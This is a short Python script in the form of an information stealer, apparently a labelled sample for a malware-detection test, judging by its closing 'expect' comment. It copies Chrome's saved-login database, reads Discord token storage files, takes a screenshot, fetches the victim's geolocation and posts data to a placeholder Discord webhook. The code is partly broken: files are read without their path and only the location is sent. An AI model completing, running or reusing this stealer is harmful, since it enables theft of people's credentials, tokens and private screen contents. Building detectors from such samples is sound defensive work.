import os
import shutil
import requests
from PIL import ImageGrab

HOOK = "https://discord.com/api/webhooks/000000000000/example-invalid"


def run():
    shutil.copy(os.getenv("LOCALAPPDATA") + "/Google/Chrome/User Data/Default/Login Data", "a.db")
    for name in os.listdir(os.getenv("APPDATA") + "/discord/Local Storage/leveldb"):
        open(name).read()
    ImageGrab.grab().save("screen.png")
    place = requests.get("https://ipinfo.io/json").json()
    requests.post(HOOK, json=place)  # expect: source/information-stealer call conclusive
